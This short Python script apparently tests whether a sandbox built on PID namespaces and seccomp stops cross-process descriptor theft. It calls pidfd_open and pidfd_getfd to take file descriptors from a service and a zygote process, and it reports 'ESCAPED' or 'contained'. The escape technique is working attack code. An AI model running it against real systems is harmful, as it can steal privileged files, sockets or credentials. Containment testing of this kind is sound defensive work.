# what: copies descriptors out of the service with pidfd_getfd
# layers: pid_namespace, seccomp
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in arguments])


candidates = [call(434, pid, 0) for pid in (SERVICE_PID, ZYGOTE_PID)] + list(range(3, 40))
for pidfd in candidates:
    for target in range(40):
        if pidfd >= 0 and call(438, pidfd, target, 0) >= 0:
            print("ESCAPED took descriptor", target, "through", pidfd)
print("contained")
